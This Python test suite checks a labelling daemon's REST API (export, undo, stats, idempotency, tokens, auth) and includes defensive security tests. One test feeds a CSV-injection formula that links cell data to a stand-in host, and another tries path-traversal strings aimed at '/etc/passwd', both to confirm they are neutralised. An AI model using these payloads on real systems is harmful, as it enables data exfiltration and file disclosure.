"""The REST surface end to end: import -> lease -> label -> export, undo,
lists, images, idempotency, auth, static files."""
import csv
import glob
import io
import json
import sqlite3
import threading
import time

from harness import (FASHION, Daemon, db_digest, events_stream, idx_bytes,
                     image_bytes, is_problem, png_bytes, run, vectors)


def import_vectors(d, n, dim=4, seed=1, split="pool"):
    items = vectors(n, dim, seed)
    for it in items:
        it["split"] = split
    r = d.post("/v1/samples", {"items": items}, token="ingest")
    assert r.status == 200, r.body
    return [it["sample_id"] for it in r.json["items"]]


def older_than_a_day(d, table, where):
    """Stops arald, dates the rows of table that match where a day and a
    second back, and starts it again on the same file."""
    assert d.stop() == 0
    con = sqlite3.connect(d.db)
    con.execute(f"UPDATE {table} SET created_at = created_at - ? WHERE {where}",
                (24 * 3600 * 1000 + 1000,))
    con.commit()
    con.close()
    d.start()


def test_round_trip_export_holds_exactly_acknowledged_labels():
    with Daemon(dim=4, classes=["cat", "dog", "bird"],
                serve_args=["--start-strategy", "random"]) as d:
        ids = import_vectors(d, 50)
        acked = {}
        for i in range(20):
            lease = d.post("/v1/leases", {"annotator": "ann1", "n": 1},
                           token="annotate").json["items"][0]
            assert lease["strategy"] == "random" and lease["score"] is None
            label = ["cat", "dog", "bird"][i % 3]
            r = d.post("/v1/labels", {"lease_id": lease["lease_id"],
                                      "label": label}, token="annotate")
            assert r.status == 200, r.body
            item = r.json["items"][0]
            assert item["sample_id"] == lease["sample_id"]
            acked[lease["sample_id"]] = (label, item["label_id"])
        rows = [json.loads(line) for line in
                d.get("/v1/export?format=jsonl", token="ingest")
                .body.decode().splitlines()]
        got = {r["sample_id"]: (r["label"], r["label_id"]) for r in rows}
        assert got == acked, (got, acked)
        assert all(r["annotator"] == "ann1" for r in rows)
        assert all(r["external_id"].startswith("v1-") for r in rows)
        text = d.get("/v1/export?format=csv", token="ingest")
        assert text.header("content-type").startswith("text/csv")
        table = list(csv.DictReader(io.StringIO(text.body.decode())))
        assert {int(r["sample_id"]): (r["label"], int(r["label_id"]))
                for r in table} == acked
        assert len(set(ids)) == 50


def export_of(d, query=""):
    """The JSONL export as {sample_id: line}, and its X-Export-Cursor."""
    r = d.get("/v1/export?format=jsonl" + query, token="ingest")
    assert r.status == 200, r.body
    lines = [json.loads(x) for x in r.body.decode().splitlines()]
    return {x["sample_id"]: x for x in lines}, int(r.header("x-export-cursor"))


def test_an_export_since_a_cursor_holds_what_changed_after_it():
    # a pipeline keeps a copy: one full export, then only the changes,
    # applied in order, give what a full export gives now
    with Daemon(dim=4, classes=["cat", "dog"]) as d:
        ids = import_vectors(d, 8)
        lab = lambda sid, label, who="annotate": d.post(
            "/v1/labels", {"sample_id": sid, "label": label},
            token=who).json["items"][0]["label_id"]
        first = [lab(ids[i], "cat") for i in range(4)]
        copy, cursor = export_of(d)
        assert sorted(copy) == ids[:4] and cursor == first[-1]
        assert export_of(d, f"&since={cursor}") == ({}, cursor)
        # a new label, an undo with nothing left in force, a relabel by
        # someone else, and an undo that brings an earlier label back
        lab(ids[5], "dog")
        d.post(f"/v1/labels/{first[0]}/undo")
        lab(ids[1], "dog", "admin")
        again = lab(ids[2], "dog")
        d.post(f"/v1/labels/{again}/undo")
        changes, newer = export_of(d, f"&since={cursor}")
        assert sorted(changes) == [ids[0], ids[1], ids[2], ids[5]]
        assert newer > cursor
        assert changes[ids[0]] == {
            "sample_id": ids[0], "external_id": "v1-0", "label": None,
            "label_id": None, "annotator": None, "created_at": None,
            "model_version": None}
        assert changes[ids[1]]["label"] == "dog"
        assert changes[ids[1]]["annotator"] == "admin"
        assert changes[ids[2]]["label_id"] == first[2]
        for sid, line in changes.items():
            if line["label"] is None:
                copy.pop(sid, None)
            else:
                copy[sid] = line
        assert copy == export_of(d)[0]
        assert export_of(d, f"&since={newer}") == ({}, newer)
        # the CSV says the same, in the order of the last changes; an
        # undone sample has its id alone
        text = d.get(f"/v1/export?format=csv&since={cursor}", token="ingest")
        rows = list(csv.DictReader(io.StringIO(text.body.decode())))
        assert [(int(r["sample_id"]), r["label"]) for r in rows] == [
            (ids[5], "dog"), (ids[0], ""), (ids[1], "dog"), (ids[2], "cat")]
        assert text.header("x-export-cursor") == str(newer)
        for bad in ("-1", "x", "1.5", str(2**60), ""):
            is_problem(d.get(f"/v1/export?since={bad}", token="ingest"), 400,
                       "bad_query")


def test_csv_export_keeps_formulas_from_running_in_a_spreadsheet():
    """An annotator names themselves, and an importer picks external ids:
    a cell that starts like a formula would run in the spreadsheet of
    whoever opens the export, so the CSV writes it after an apostrophe
    (OWASP's CSV injection advice); the JSONL keeps every value as is."""
    with Daemon(dim=2, classes=["a", "b"]) as d:
        names = ["=1+2", "+3", "-4", "@SUM(A1)", "ok,5", "6-"]
        items = [dict(v, external_id=n) for v, n in
                 zip(vectors(len(names), 2), names)]
        r = d.post("/v1/samples", {"items": items}, token="ingest")
        assert r.status == 200, r.body
        who = '=HYPERLINK("http://x.example/?"&A1,"see")'
        for it in r.json["items"]:
            lease = d.post("/v1/leases", {"annotator": who, "n": 1},
                           token="annotate").json["items"][0]
            assert d.post("/v1/labels", {"lease_id": lease["lease_id"],
                                         "label": "a"},
                          token="annotate").status == 200
        text = d.get("/v1/export?format=csv", token="ingest").body.decode()
        table = list(csv.DictReader(io.StringIO(text)))
        assert sorted(r["external_id"] for r in table) == sorted(
            ["'=1+2", "'+3", "'-4", "'@SUM(A1)", "ok,5", "6-"])
        assert {r["annotator"] for r in table} == {"'" + who}
        rows = [json.loads(x) for x in
                d.get("/v1/export", token="ingest").body.decode().splitlines()]
        assert sorted(r["external_id"] for r in rows) == sorted(names)
        assert {r["annotator"] for r in rows} == {who}


def test_stats_count_labels_in_force_per_class_and_recent_annotator():
    """The dashboard's tables from GET /v1/stats: labels in force per
    class (an undone label does not count), and per annotator those given
    in the last 24 hours, agreeing with the export they replace."""
    with Daemon(dim=2, classes=["a", "b", "c"]) as d:
        ids = import_vectors(d, 9, dim=2)
        def give(who, sids, label):
            r = d.post("/v1/labels", {"items": [
                {"sample_id": i, "label": label, "annotator": who}
                for i in sids]})
            assert r.status == 200, r.body
            return [it["label_id"] for it in r.json["items"]]
        give("ann", ids[:4], "a")
        undone = give("ann", ids[4:5], "b")[0]
        assert d.post(f"/v1/labels/{undone}/undo").status == 200
        give("bob", ids[5:8], "b")
        give("old", ids[8:], "a")
        older_than_a_day(d, "labels", "annotator = 'old'")
        st = d.get("/v1/stats", token="ingest").json
        assert st["classes"] == [{"class": "a", "labels": 5},
                                 {"class": "b", "labels": 3},
                                 {"class": "c", "labels": 0}], st
        rows = [json.loads(x) for x in
                d.get("/v1/export", token="ingest").body.decode().split()]
        for who in ("ann", "bob"):
            mine = sorted(r["created_at"] for r in rows if r["annotator"] == who)
            assert {"annotator": who, "labels": len(mine), "first_at": mine[0],
                    "last_at": mine[-1]} in st["annotators"], st
        assert [a["annotator"] for a in st["annotators"]] == ["ann", "bob"]
        is_problem(d.get("/v1/stats", token="annotate"), 403, "forbidden")


def test_stats_tables_come_from_one_snapshot():
    """GET /v1/stats reads its two tables in one read transaction: a
    label committed while they are read counts in both or in neither.
    The fault point holds the read 0.3 s between the tables, where the
    second label lands."""
    with Daemon(dim=2, classes=["a", "b"],
                env={"ARALD_TEST_FAULTS": "1"}) as d:
        ids = import_vectors(d, 2, dim=2)
        label = {"label": "a", "annotator": "ann"}
        assert d.post("/v1/labels", {"sample_id": ids[0], **label}) \
            .status == 200
        got = {}
        reader = threading.Thread(target=lambda: got.update(d.get(
            "/v1/stats", token="ingest",
            headers={"X-Arald-Fault": "stats_gap"}).json))
        reader.start()
        time.sleep(0.1)
        assert d.post("/v1/labels", {"sample_id": ids[1], **label}) \
            .status == 200  # lands while the stats are read
        reader.join()
        # before the fix: 1 in force per class, 2 given by ann; now both
        # 1 (or both 2 on a machine slow to reach the gap)
        classes = sum(c["labels"] for c in got["classes"])
        given = sum(a["labels"] for a in got["annotators"])
        assert classes == given in (1, 2), got
        st = d.get("/v1/stats", token="ingest").json
        assert st["classes"][0]["labels"] == st["annotators"][0]["labels"] \
            == 2, st


def test_export_streams_many_pages():
    with Daemon(dim=2, classes=["a", "b"]) as d:
        ids = import_vectors(d, 1000, dim=2) + import_vectors(d, 500, 2, 7)
        items = [{"sample_id": i, "label": "ab"[i % 2]} for i in ids]
        for k in (0, 1000):
            r = d.post("/v1/labels", {"items": items[k:k + 1000]})
            assert r.status == 200, r.body
        body = d.get("/v1/export").body.decode().splitlines()
        assert len(body) == 1500
        assert sorted(json.loads(x)["sample_id"] for x in body) == sorted(ids)
        # the changes since 0 are every labeled sample too, over 3 pages
        assert export_of(d, "&since=0")[0] == export_of(d)[0]
        # a relabel of every sample: each comes once, at its last change
        items = [{"sample_id": i, "label": "ba"[i % 2]} for i in ids]
        for k in (0, 1000):
            assert d.post("/v1/labels", {"items": items[k:k + 1000]}).status \
                == 200
        changes = d.get("/v1/export?since=1").body.decode().splitlines()
        assert [json.loads(x)["sample_id"] for x in changes] == ids
        assert export_of(d, "&since=1")[0] == export_of(d)[0]


def test_undo_appends_and_returns_sample_to_queue():
    with Daemon(dim=4, classes=["a", "b"]) as d:
        sid = import_vectors(d, 3)[0]
        first = d.post("/v1/labels", {"sample_id": sid, "label": "a"})
        second = d.post("/v1/labels", {"sample_id": sid, "label": "b"})
        lid2 = second.json["items"][0]["label_id"]
        r = d.post(f"/v1/labels/{lid2}/undo")
        assert r.status == 200 and r.json["label"] == "a", r.body
        assert d.get(f"/v1/samples/{sid}").json["label"] == "a"
        lid1 = first.json["items"][0]["label_id"]
        assert d.post(f"/v1/labels/{lid1}/undo").json["label"] is None
        s = d.get(f"/v1/samples/{sid}").json
        assert s["state"] == "unlabeled" and s["label"] is None
        is_problem(d.post(f"/v1/labels/{lid1}/undo"), 409, "already_retracted")
        queue = [i["sample_id"] for i in d.get("/v1/queue?limit=10")
                 .json["items"]]
        assert sid in queue
        assert d.get("/v1/export").body == b""


def test_an_annotators_labels_newest_first_undone_and_replaced_marked():
    with Daemon(dim=4, classes=["a", "b"]) as d:
        ids = import_vectors(d, 12)
        ann = d.new_token("annotate", "ann1")
        given = []
        for i, sid in enumerate(ids[:9]):  # one at a time: label ids rise
            r = d.post("/v1/labels", {"sample_id": sid, "label": "ab"[i % 2]},
                       token=ann)
            given.append(r.json["items"][0]["label_id"])
        # by another annotator: not in ann1's list, but it replaces one
        d.post("/v1/labels", {"sample_id": ids[2], "label": "b",
                              "annotator": "ann2"}, token=ann)
        # undone through another token, for ann1: recorded as ann1's
        assert d.post(f"/v1/labels/{given[4]}/undo",
                      {"annotator": "ann1"}).status == 200
        con = sqlite3.connect(d.db)
        assert con.execute("SELECT annotator FROM labels WHERE retracts = ?",
                           (given[4],)).fetchone() == ("ann1",)
        con.close()
        # the token's name by default; pages of 4, newest first
        seen, cursor = [], None
        while True:
            q = "/v1/labels?limit=4" + (f"&cursor={cursor}" if cursor else "")
            page = d.get(q, token=ann).json
            assert page["annotator"] == "ann1" and page["total"] == 9, page
            seen += page["items"]
            cursor = page["next_cursor"]
            if not cursor:
                break
        assert [x["label_id"] for x in seen] == given[::-1]
        by_id = {x["label_id"]: x for x in seen}
        assert [x["sample_id"] for x in seen] == ids[:9][::-1]
        assert by_id[given[3]]["label"] == "b" and by_id[given[0]]["label"] == "a"
        assert by_id[given[4]]["retracted"] and not by_id[given[4]]["in_force"]
        assert not by_id[given[2]]["retracted"]
        assert not by_id[given[2]]["in_force"]  # ann2 labeled it since
        assert all(x["in_force"] for x in seen
                   if x["label_id"] not in (given[2], given[4]))
        # another annotator's by name; ingest and admin may read it too
        for token in (ann, "ingest", "admin"):
            page = d.get("/v1/labels?annotator=ann2", token=token).json
            assert [x["sample_id"] for x in page["items"]] == [ids[2]], page
        assert d.get("/v1/labels?annotator=nobody").json["total"] == 0
        for q in ("annotator=", "annotator=" + "x" * 64, "limit=0",
                  "limit=1001", "cursor=0", "cursor=x", "annotator=%ff",
                  "annotator=a%0Ab", "annotator=a&annotator=b"):
            is_problem(d.get("/v1/labels?" + q, token=ann), 400, "bad_query")


def test_samples_list_states_and_cursor():
    with Daemon(dim=4, classes=["a", "b"]) as d:
        ids = import_vectors(d, 30)
        import_vectors(d, 5, seed=9, split="eval")
        d.post("/v1/labels", {"items": [{"sample_id": i, "label": "a"}
                                        for i in ids[:4]]})
        d.post("/v1/leases", {"n": 3})
        def count(q):
            return d.get("/v1/samples?" + q).json["total"]
        assert count("state=labeled") == 4
        assert count("state=leased") == 3
        assert count("state=unlabeled&split=pool") == 23
        assert count("split=eval") == 5
        # every total is the number of samples its listing holds
        for state in (None, "unlabeled", "leased", "labeled"):
            for split in (None, "pool", "eval"):
                q = "&".join(f"{k}={v}" for k, v in (
                    ("state", state), ("split", split), ("limit", 1000)) if v)
                page = d.get("/v1/samples?" + q).json
                assert page["total"] == len(page["items"]), (q, page["total"])
        seen, cursor = [], None
        while True:
            q = "/v1/samples?limit=7" + (f"&cursor={cursor}" if cursor else "")
            page = d.get(q).json
            seen += [s["sample_id"] for s in page["items"]]
            cursor = page["next_cursor"]
            if not cursor:
                break
        assert seen == sorted(seen) and len(seen) == 35


def test_images_png_jpeg_idx_and_png_render():
    with Daemon() as d:
        px = image_bytes(3)
        r = d.request("POST", "/v1/samples?external_id=shirt.png",
                      token="ingest", raw=png_bytes(28, 28, px),
                      headers={"Content-Type": "image/png"})
        assert r.status == 200 and r.json["inserted"] == 1, r.body
        sid = r.json["items"][0]["sample_id"]
        img = d.get(f"/v1/samples/{sid}/image")
        assert img.header("content-type") == "image/png"
        assert img.body.startswith(b"\x89PNG")
        again = d.post("/v1/samples", {"items": [
            {"image_base64": __import__("base64").b64encode(img.body)
             .decode()}]}, token="ingest")
        assert again.json["duplicates"] == 1, again.body
        rgb = png_bytes(28, 28, bytes(b for p in image_bytes(4)
                                      for b in (p, p, p)), channels=3)
        r = d.request("POST", "/v1/samples", raw=rgb, token="ingest",
                      headers={"Content-Type": "image/png"})
        assert r.json["inserted"] == 1, r.body
        r = d.request("POST", "/v1/samples?split=eval&name=up", token="ingest",
                      raw=idx_bytes([image_bytes(i) for i in range(10, 15)]),
                      headers={"Content-Type": "application/x-idx"})
        assert r.status == 200 and r.json["inserted"] == 5, r.body
        ev = d.get("/v1/samples?split=eval").json["items"]
        assert [s["external_id"] for s in ev] == [f"up:{i}" for i in range(5)]
        try:
            from PIL import Image
        except ImportError:
            raise AssertionError("python3-pil is needed for the JPEG case")
        buf = io.BytesIO()
        Image.frombytes("L", (28, 28), image_bytes(5)).save(buf, "JPEG")
        r = d.request("POST", "/v1/samples", raw=buf.getvalue(),
                      token="ingest", headers={"Content-Type": "image/jpeg"})
        assert r.status == 200 and r.json["inserted"] == 1, r.body


def test_idempotency_replays_and_conflicts():
    with Daemon(dim=4, classes=["a", "b"]) as d:
        import_vectors(d, 10)
        h = {"Idempotency-Key": "k-1"}
        a = d.post("/v1/leases", {"n": 2}, headers=h)
        b = d.post("/v1/leases", {"n": 2}, headers=h)
        assert a.status == b.status == 200 and a.body == b.body
        assert b.header("idempotent-replayed") == "true"
        assert d.get("/v1/samples?state=leased").json["total"] == 2
        is_problem(d.post("/v1/leases", {"n": 3}, headers=h), 409,
                   "idempotency_conflict")
        lid = a.json["items"][0]["lease_id"]
        h2 = {"Idempotency-Key": "label-1"}
        x = d.post("/v1/labels", {"lease_id": lid, "label": "a"}, headers=h2)
        y = d.post("/v1/labels", {"lease_id": lid, "label": "a"}, headers=h2)
        assert x.status == 200 and x.body == y.body
        assert len(d.get("/v1/export").body.splitlines()) == 1


def test_idempotency_keys_are_kept_a_day():
    # every label the page sends stores a key: kept for good, they would
    # grow the file with every label; a key older than a day is deleted
    # (at start, then hourly) and its replay runs the request again
    with Daemon(dim=4, classes=["a", "b"]) as d:
        import_vectors(d, 10)
        old = d.post("/v1/leases", {"n": 1}, headers={"Idempotency-Key": "old"})
        new = d.post("/v1/leases", {"n": 1}, headers={"Idempotency-Key": "new"})
        assert old.status == new.status == 200
        older_than_a_day(d, "idempotency", "key = 'old'")
        con = sqlite3.connect(d.db)
        keys = lambda: {k for (k,) in con.execute("SELECT key FROM idempotency")}
        deadline = time.time() + 10
        while "old" in keys() and time.time() < deadline:
            time.sleep(0.05)
        assert keys() == {"new"}, keys()
        con.close()
        again = d.post("/v1/leases", {"n": 1}, headers={"Idempotency-Key": "old"})
        assert again.status == 200 and again.header("idempotent-replayed") is None
        assert again.json["items"][0]["sample_id"] != \
            old.json["items"][0]["sample_id"]
        same = d.post("/v1/leases", {"n": 1}, headers={"Idempotency-Key": "new"})
        assert same.header("idempotent-replayed") == "true"


def test_auth_roles():
    with Daemon(dim=4, classes=["a", "b"]) as d:
        assert d.get("/v1/health", token=None).json == {"status": "ok"}
        is_problem(d.get("/v1/project", token=None), 401, "unauthorized")
        is_problem(d.get("/v1/project", token="nope"), 401, "unauthorized")
        is_problem(d.post("/v1/samples", {"items": vectors(1, 4)},
                          token="annotate"), 403, "forbidden")
        is_problem(d.post("/v1/leases", {"n": 1}, token="ingest"), 403,
                   "forbidden")
        is_problem(d.get("/v1/metrics", token="annotate"), 403, "forbidden")
        assert d.get("/v1/project", token="annotate").status == 200


def test_tokens_made_listed_and_revoked_over_rest():
    with Daemon(dim=4, classes=["a", "b"]) as d:
        import_vectors(d, 4)
        key = {"Idempotency-Key": "make-alice"}
        made = d.post("/v1/tokens", {"name": "alice", "role": "annotate"},
                      headers=key)
        assert made.status == 200 and made.json["token"].startswith("arl_")
        secret, tid = made.json["token"], made.json["token_id"]
        # a replay makes no second token and cannot show the secret again
        again = d.post("/v1/tokens", {"name": "alice", "role": "annotate"},
                       headers=key)
        assert again.header("idempotent-replayed") == "true"
        assert again.json == dict(made.json, token=None)
        listed = d.get("/v1/tokens").json
        assert [(t["name"], t["role"]) for t in listed["items"]] == [
            ("admin", "admin"), ("annotate", "annotate"),
            ("ingest", "ingest"), ("alice", "annotate")]
        assert listed["total"] == 4 and listed["next_cursor"] is None
        assert all("token" not in t and t["revoked_at"] is None
                   for t in listed["items"])
        first = d.get("/v1/tokens?limit=3").json
        rest = d.get("/v1/tokens?limit=3&cursor=" + first["next_cursor"]).json
        assert first["items"] + rest["items"] == listed["items"]
        # the new token works, under its name, and knows itself
        me = {k: v for k, v in made.json.items() if k != "token"}
        assert d.get("/v1/me", token=secret).json == me
        assert d.get("/v1/me", token="ingest").json["role"] == "ingest"
        lease = d.post("/v1/leases", {"n": 1}, token=secret).json["items"][0]
        assert d.post("/v1/labels", {"lease_id": lease["lease_id"],
                                     "label": "a"}, token=secret).status == 200
        assert d.get("/v1/labels", token=secret).json["total"] == 1
        assert d.get("/v1/labels", token=secret).json["annotator"] == "alice"
        # its secret is in no file of the database: only its hash is kept
        for f in glob.glob(d.db + "*"):
            assert secret.encode() not in open(f, "rb").read(), f
        # revoked: refused from the next request on, its stream ends
        stream = events_stream(d, secret)
        gone = d.request("DELETE", f"/v1/tokens/{tid}")
        assert gone.status == 200 and gone.json["revoked_at"] is not None
        t0 = time.monotonic()
        stream.read()
        assert time.monotonic() - t0 < 5
        is_problem(d.get("/v1/project", token=secret), 401, "unauthorized")
        is_problem(d.get("/v1/me", token=secret), 401, "unauthorized")
        is_problem(d.request("DELETE", f"/v1/tokens/{tid}"), 409,
                   "already_revoked")
        assert gone.json["leases_released"] == 0  # its lease was labeled
        listed_now = d.get("/v1/tokens").json["items"][3]
        assert dict(listed_now, leases_released=0) == gone.json
        # the API keeps an admin: the last live one cannot go over REST
        before = db_digest(d.db)
        admin_id = listed["items"][0]["token_id"]
        is_problem(d.request("DELETE", f"/v1/tokens/{admin_id}"), 409,
                   "last_admin")
        assert db_digest(d.db) == before
        ops = d.post("/v1/tokens", {"name": "ops", "role": "admin"}).json
        assert d.request("DELETE", f"/v1/tokens/{admin_id}").status == 200
        is_problem(d.get("/v1/tokens"), 401, "unauthorized")
        assert d.get("/v1/tokens", token=ops["token"]).json["total"] == 5


def test_revoking_a_token_gives_its_leases_back_at_once():
    """An annotator who left held the samples that rank first: revoking
    their token serves those samples to the next annotator, not after
    their leases ran out."""
    with Daemon(dim=4, classes=["a", "b"],
                serve_args=["--start-strategy", "random"]) as d:
        import_vectors(d, 12)
        alice = d.post("/v1/tokens", {"name": "alice",
                                      "role": "annotate"}).json
        held = d.post("/v1/leases", {"n": 4}, token=alice["token"]).json
        ids = [it["sample_id"] for it in held["items"]]
        assert d.post("/v1/labels", {"lease_id": held["items"][0]["lease_id"],
                                     "label": "a"},
                      token=alice["token"]).status == 200
        queue = [it["sample_id"] for it in d.get("/v1/queue?limit=20").json["items"]]
        assert not set(ids) & set(queue) and len(queue) == 8
        gone = d.request("DELETE", f"/v1/tokens/{alice['token_id']}")
        assert gone.status == 200 and gone.json["leases_released"] == 3
        queue = [it["sample_id"] for it in d.get("/v1/queue?limit=20").json["items"]]
        assert queue[:3] == ids[1:] and len(queue) == 11
        bob = d.post("/v1/leases", {"annotator": "bob", "n": 3},
                     token="annotate").json
        assert [it["sample_id"] for it in bob["items"]] == ids[1:]
        con = sqlite3.connect(d.db)
        rows = con.execute("SELECT state, skipped, token_id FROM leases"
                           " WHERE annotator = 'alice' ORDER BY id").fetchall()
        con.close()
        assert rows == [("done", 0, alice["token_id"])] + \
            [("released", 0, alice["token_id"])] * 3, rows
        assert d.get("/v1/project", token=alice["token"]).status == 401


def test_project_version_metrics_queue():
    # the random order before a model (the label-free start is
    # test_worker's): its queue does not change under the test
    with Daemon(classes=FASHION, serve_args=["--start-strategy", "random"]) as d:
        p = d.get("/v1/project").json
        assert p["retrain_policy"]["start_strategy"] == "random"
        assert [c["name"] for c in p["classes"]] == FASHION
        assert p["classes"][9]["key"] == "0"
        assert p["input"] == {"kind": "image", "height": 28, "width": 28,
                              "channels": 1}
        v = d.get("/v1/version").json
        assert v["schema_version"] == 9 and v["model_version"] is None
        d.request("POST", "/v1/samples", token="ingest",
                  raw=idx_bytes([image_bytes(i) for i in range(30)]),
                  headers={"Content-Type": "application/x-idx"})
        q = d.get("/v1/queue?limit=5").json
        assert len(q["items"]) == 5 and q["total"] == 30
        assert q["strategy"] == "random"
        m = d.get("/v1/metrics")
        assert m.header("content-type").startswith("text/plain")
        text = m.body.decode()
        assert "arald_queue_depth 30" in text
        assert 'arald_http_requests_total{route="queue",code="2xx"} 1' in text


def test_static_page_and_path_tricks():
    with Daemon(dim=4, classes=["a", "b"]) as d:
        for path, ctype in (("/", "text/html"), ("/app.js", "text/javascript"),
                            ("/style.css", "text/css"),
                            ("/favicon.ico", "image/x-icon")):
            r = d.get(path, token=None)
            assert r.status == 200 and r.header("content-type").startswith(
                ctype), (path, r.status)
            assert r.header("x-content-type-options") == "nosniff"
        etag = d.get("/", token=None).header("etag")
        assert d.get("/", token=None,
                     headers={"If-None-Match": etag}).status == 304
        before = db_digest(d.db)
        for trick in ("/../t.db", "/%2e%2e/t.db", "/..%2Ft.db", "/web/../t.db",
                      "/app.js%00.png", "//etc/passwd", "/.%2e/.%2e/etc/passwd",
                      "/v1/../t.db"):
            r = d.get(trick, token=None)
            assert r.status in (400, 404), (trick, r.status)
            assert b"SQLite" not in r.body
            is_problem(r, r.status, r.json["code"])
        assert db_digest(d.db) == before


run([test_round_trip_export_holds_exactly_acknowledged_labels,
     test_an_export_since_a_cursor_holds_what_changed_after_it,
     test_export_streams_many_pages,
     test_csv_export_keeps_formulas_from_running_in_a_spreadsheet,
     test_stats_count_labels_in_force_per_class_and_recent_annotator,
     test_stats_tables_come_from_one_snapshot,
     test_undo_appends_and_returns_sample_to_queue,
     test_an_annotators_labels_newest_first_undone_and_replaced_marked,
     test_samples_list_states_and_cursor,
     test_images_png_jpeg_idx_and_png_render,
     test_idempotency_replays_and_conflicts,
     test_idempotency_keys_are_kept_a_day,
     test_auth_roles,
     test_tokens_made_listed_and_revoked_over_rest,
     test_revoking_a_token_gives_its_leases_back_at_once,
     test_project_version_metrics_queue,
     test_static_page_and_path_tricks])
